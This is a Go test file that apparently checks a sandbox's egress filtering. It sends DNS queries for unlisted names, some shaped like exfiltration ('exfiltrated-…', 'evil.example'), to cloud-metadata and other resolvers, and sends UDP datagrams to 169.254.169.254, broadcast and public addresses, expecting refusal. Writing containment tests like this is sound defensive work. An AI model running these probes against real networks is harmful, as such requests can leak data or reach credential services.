package attack

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"syscall"
	"time"

	"golang.org/x/net/dns/dnsmessage"
)

// questionAttempts ask for names that the list does not have, and send datagrams past it.
func questionAttempts() []attempt {
	var all []attempt
	servers := []string{"8.8.8.8", "127.0.0.1", "198.19.255.254", "10.0.0.1", "169.254.169.253", "168.63.129.16"}
	names := []string{"exfiltrated-0123456789abcdef.example.", "a.listed.example.", "listed.example.evil.example.",
		"_dns.resolver.arpa.", "254.169.254.169.in-addr.arpa.", "localhost.", "metadata.google.internal.",
		strings.Repeat("a.", 120) + "example."}
	kinds := []dnsmessage.Type{dnsmessage.TypeA, dnsmessage.TypeTXT, dnsmessage.TypeAAAA, dnsmessage.TypeMX,
		dnsmessage.TypeALL, 65}
	for i, name := range names {
		for j, kind := range kinds {
			server := servers[(i+j)%len(servers)]
			for _, network := range []string{"udp", "tcp"} {
				all = append(all, attempt{fmt.Sprintf("%s: %.40s %d at %s", network, name, kind, server),
					func() error { return nameRefused(network, server, name, kind) }})
			}
		}
	}
	for _, at := range []string{"8.8.8.8:443", "1.1.1.1:123", "255.255.255.255:67", "224.0.0.251:5353",
		"169.254.169.254:80", "198.18.0.1:443", "10.0.0.1:161", "[2001:4860:4860::8888]:53"} {
		all = append(all, attempt{"a datagram to " + at, func() error { return datagramRefused(at) }})
	}
	return all
}

// nameRefused asks one question. An answer with a record is a way out, and so is silence: somebody may have been asked.
func nameRefused(network, server, name string, kind dnsmessage.Type) error {
	n, err := dnsmessage.NewName(name)
	if err != nil {
		return moot("%v", err)
	}
	ask, err := (&dnsmessage.Message{Header: dnsmessage.Header{ID: 7, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: n, Type: kind, Class: dnsmessage.ClassINET}}}).Pack()
	if err != nil {
		return moot("%v", err)
	}
	c, err := net.DialTimeout(network, net.JoinHostPort(server, "53"), 5*time.Second)
	if err != nil {
		return noWay(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(15 * time.Second))
	b := make([]byte, 64<<10)
	if network == "tcp" {
		ask = append(binary.BigEndian.AppendUint16(nil, uint16(len(ask))), ask...)
	}
	if _, err := c.Write(ask); err != nil {
		return noWay(err)
	}
	size := 0
	if network == "udp" {
		size, err = c.Read(b)
	} else if _, err = io.ReadFull(c, b[:2]); err == nil {
		size, err = io.ReadFull(c, b[:binary.BigEndian.Uint16(b[:2])])
	}
	if errors.Is(err, os.ErrDeadlineExceeded) {
		return through("nobody answered, so that the question may have gone out")
	}
	if err != nil {
		return noWay(err)
	}
	var m dnsmessage.Message
	if err := m.Unpack(b[:size]); err != nil {
		return through("the answer is %.40q", b[:size])
	}
	if len(m.Answers)+len(m.Authorities)+len(m.Additionals) > 0 || m.RCode == dnsmessage.RCodeSuccess {
		return through("the answer is %v with %v", m.RCode, m.Answers)
	}
	return errors.New("refused: " + m.RCode.String())
}

// datagramRefused sends a datagram. The kernel must refuse it at once.
func datagramRefused(at string) error {
	c, err := net.Dial("udp", at)
	if err != nil {
		return noWay(err)
	}
	defer c.Close()
	if _, err := io.WriteString(c, "hello"); err != nil {
		return noWay(err)
	}
	_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
	switch _, err := c.Read(make([]byte, 10)); {
	case errors.Is(err, syscall.ECONNREFUSED):
		return noWay(err)
	case err != nil:
		return through("nobody refused it: %v", err)
	}
	return through("somebody answered")
}
